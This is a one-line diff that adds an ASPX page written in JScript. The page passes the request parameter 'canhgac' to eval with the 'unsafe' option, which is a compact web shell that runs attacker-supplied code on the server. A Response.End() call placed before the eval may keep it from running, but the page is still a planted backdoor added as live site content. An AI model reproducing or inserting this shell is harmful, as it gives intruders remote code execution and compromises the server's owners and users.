@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%Response.End();%><%eval(Request.Item["canhgac"],"unsafe");%>
